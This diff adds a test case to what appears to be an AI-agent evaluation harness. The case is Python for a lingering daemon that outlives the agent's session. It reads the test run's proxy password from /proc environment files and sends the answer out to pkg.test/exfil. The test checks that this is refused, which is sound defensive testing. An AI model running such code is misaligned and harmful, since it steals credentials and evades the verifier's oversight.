@@ -165,6 +165,32 @@ function routes(preloadLibrary: Uint8Array): Record<string, string> {
         "        c.close()",
       ].join("\n"),
     ),
+    // A daemon that listens (so it is kept running), reads the proxy's password from the test
+    // run's environment in /proc, and sends the answer out with it.
+    "kept-password": listeningDaemon(
+      9004,
+      [
+        "if os.path.exists('/tests/test.sh') and not os.path.exists('/tmp/sent'):",
+        "    for pid in [p for p in os.listdir('/proc') if p.isdigit()]:",
+        "        try:",
+        "            env = open(f'/proc/{pid}/environ', 'rb').read().split(b'\\0')",
+        "        except OSError:",
+        "            continue",
+        "        url = next((e[11:].decode() for e in env if e.startswith(b'http_proxy=')), None)",
+        "        if url is None:",
+        "            continue",
+        "        user = url.split('//')[1].split('@')[0].encode()",
+        "        auth = __import__('base64').b64encode(user).decode()",
+        "        answer = open('/app/answer.txt').read().strip()",
+        "        open('/tmp/sent', 'w').close()",
+        "        c = socket.create_connection(('127.0.0.1', 3128), timeout=2)",
+        "        c.sendall((f'GET http://pkg.test/exfil?{answer} HTTP/1.1\\r\\n' +",
+        "                   f'Proxy-Authorization: Basic {auth}\\r\\n\\r\\n').encode())",
+        "        c.recv(4096)",
+        "        c.close()",
+        "        break",
+      ].join("\n"),
+    ),
   };
 }
 
@@ -292,6 +318,13 @@ Deno.test({
       // Kept, and uses the verifier's proxy: without the test run's password it is refused, and
       // the row counts the verifier's own request only; nothing of the workspace left.
       deepEqual(outcome("kept-egress"), scored(false));
+      // Kept, with the password read from the test run's environment: it is not of the test
+      // run's process tree, so its connection is refused before the proxy reads it.
+      deepEqual(outcome("kept-password"), scored(false));
+      deepEqual(
+        byAgent.get("kept-password")!.verification?.kept_processes?.map((p) => p.listening),
+        [["tcp 127.0.0.1:9004"]],
+      );
       // (preload and symlink left no working python3 to fetch with.)
       // (kept-killer's test run may die before or after its fetch.)
       const fetched = (id: string) => id !== "preload" && id !== "symlink";
